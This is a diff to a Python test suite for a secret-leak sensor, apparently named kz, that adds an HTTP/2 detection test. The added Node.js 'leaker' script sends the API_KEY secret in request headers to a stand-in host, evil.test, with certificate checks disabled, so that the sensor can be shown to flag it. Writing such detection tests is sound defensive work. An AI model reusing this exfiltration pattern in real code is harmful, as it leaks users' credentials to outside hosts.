@@ -16,12 +16,13 @@ Needs the sensors (root, BTF, a kz built with eBPF): skipped with `SKIP:` when
 `kz doctor` reports the TLS tap unavailable.
 """
 import os
+import shutil
 import subprocess
 import sys
 import unittest
 
 sys.path.insert(0, os.path.dirname(__file__))
-from kzt import KZ, PY, BlindTestCase  # noqa: E402
+from kzt import KZ, PY, SRC, BlindTestCase, NodeServer  # noqa: E402
 
 CANARY = "kzCANARY-sensor-5e1d0c9b8a7f6e5d4c3b2a1"
 
@@ -33,6 +34,29 @@ for url in sys.argv[1:3]:
     req = urllib.request.Request(url, headers={"X-Api-Key": os.environ["API_KEY"]})
     with urllib.request.urlopen(req, context=ctx, timeout=20) as r:
         print(url, r.status, flush=True)
+'''
+
+# node's http2 (nghttp2's HPACK encoder): the value in two requests' headers on one
+# connection, Huffman-coded in the first (x-api-key enters the dynamic table), only a
+# one-byte table index in the second. No body carries it. The server name it sends is
+# evil.test (node's own TLS gives the tap no socket peer; the name is the destination).
+H2_LEAKER = r'''
+import http2 from 'node:http2';
+const s = http2.connect(process.argv[2], { servername: 'evil.test', checkServerIdentity: () => undefined });
+s.on('error', (e) => { console.error(e.message); process.exit(1); });
+function get(headers) {
+  return new Promise((resolve, reject) => {
+    const r = s.request({ ':path': '/v1/h2-leak', ...headers });
+    r.on('error', reject);
+    r.on('end', resolve);
+    r.resume();
+    r.end();
+  });
+}
+await get({ 'x-api-key': process.env.API_KEY, authorization: `Bearer ${process.env.API_KEY}` });
+await get({ 'x-api-key': process.env.API_KEY });
+s.close();
+console.log('sent 2');
 '''
 
 
@@ -123,6 +147,30 @@ class SensorTest(KillKeepsBoundTraffic, SensorCase):
         summary = self.assertAudited("sensor.summary")[0]
         self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 1},
                       summary.get("uses"), summary)
+        self.assertEqual(summary.get("leaks"), 2)
+        self.assertNoCanaryInAudit()
+
+    def test_http2_header_values_are_recognised(self):
+        # HPACK: the raw bytes hold the value Huffman-coded, then only an index; the tap
+        # decodes each header block with the connection's table and sees it both times.
+        if not shutil.which("node"):
+            self.skipTest("node is not installed")
+        record = os.path.join(self.srv, "h2.jsonl")
+        server = NodeServer([os.path.join(SRC, "tests", "servers", "h2_record_server.mjs"), "--cert",
+                             self.ca["server"], "--key", self.ca["server_key"], "--record", record])
+        self.addCleanup(server.stop)
+        script = self.write("h2_leaker.mjs", H2_LEAKER)
+        self.kenv["NODE_EXTRA_CA_CERTS"] = self.ca["ca"]
+        r = self.run_std("node", script, "https://127.0.0.1:%d" % server.port)
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        self.assertEqual(len(self.records(record)), 2, self.diag(r))
+        leaks = self.assertAudited("leak", secret="API_KEY")
+        # One write per request (preface and settings go with the first).
+        self.assertEqual(len(leaks), 2, self.diag(r))
+        for leak in leaks:
+            self.assertEqual(leak.get("host"), "evil.test")
+            self.assertEqual(leak.get("via"), "tls-tap")
+        summary = self.assertAudited("sensor.summary")[0]
         self.assertEqual(summary.get("leaks"), 2)
         self.assertNoCanaryInAudit()
 
